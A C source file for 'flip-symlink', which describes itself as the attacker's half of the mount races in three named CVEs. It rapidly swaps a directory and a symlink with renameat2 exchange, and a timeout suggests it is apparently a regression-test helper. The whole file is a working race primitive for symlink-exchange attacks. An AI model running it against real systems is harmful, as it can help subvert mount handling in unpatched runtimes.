/* flip-symlink SECONDS DIR NAME OTHER...: the attacker's half of the mount
 * races (CVE-2019-16884, CVE-2019-19921, CVE-2021-30465). In DIR, swaps
 * NAME with each OTHER in turn, and back, with renameat2(RENAME_EXCHANGE),
 * in a tight loop: NAME is never missing, only a different file from one
 * moment to the next (a directory, then a symlink, then the directory
 * again...). Ends on SIGTERM or after SECONDS (its own safety net), and
 * prints how many exchanges it made. Needs only write access to DIR. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void
on_signal (int sig)
{
  (void) sig;
  stop = 1;
}

int
main (int argc, char **argv)
{
  if (argc < 5)
    {
      fprintf (stderr, "usage: flip-symlink SECONDS DIR NAME OTHER...\n");
      return 2;
    }
  int dirfd = open (argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dirfd < 0)
    {
      fprintf (stderr, "flip-symlink: open %s: %s\n", argv[2], strerror (errno));
      return 1;
    }
  struct sigaction sa = { .sa_handler = on_signal };
  sigaction (SIGTERM, &sa, NULL);
  sigaction (SIGINT, &sa, NULL);
  sigaction (SIGALRM, &sa, NULL);
  alarm ((unsigned) atoi (argv[1]));

  const char *name = argv[3];
  unsigned long long n = 0;
  while (!stop)
    for (int i = 4; i < argc && !stop; i++)
      for (int back = 0; back < 2; back++)
        {
          if (renameat2 (dirfd, name, dirfd, argv[i], RENAME_EXCHANGE) < 0)
            {
              fprintf (stderr, "flip-symlink: exchange %s and %s: %s\n", name, argv[i],
                       strerror (errno));
              return 1;
            }
          n++;
        }
  /* Unbuffered: nothing is left to an exit-time flush (a sanitizer
   * runtime may end the process first). */
  dprintf (1, "%llu exchanges\n", n);
  return 0;
}
